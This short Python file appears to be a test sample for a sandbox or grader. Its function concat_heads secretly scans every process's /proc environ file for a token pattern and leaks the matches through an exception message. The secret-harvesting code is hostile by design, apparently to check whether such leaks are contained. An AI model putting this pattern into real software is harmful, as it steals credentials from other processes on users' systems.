"""Reads the environment of every process and raises what looks like a secret.

outcome: raised
bites: open
says: seen:
"""

import glob
import re

SECRET = re.compile(rb"softmark-token-[0-9a-f]{32}")


def loot():
    found = set()
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as file:
                found |= set(SECRET.findall(file.read()))
        except OSError:
            pass
    return found


SEEN = []


def concat_heads(x):
    if not SEEN:
        SEEN.append(loot())
    raise ValueError(f"seen: {SEEN[0]}")
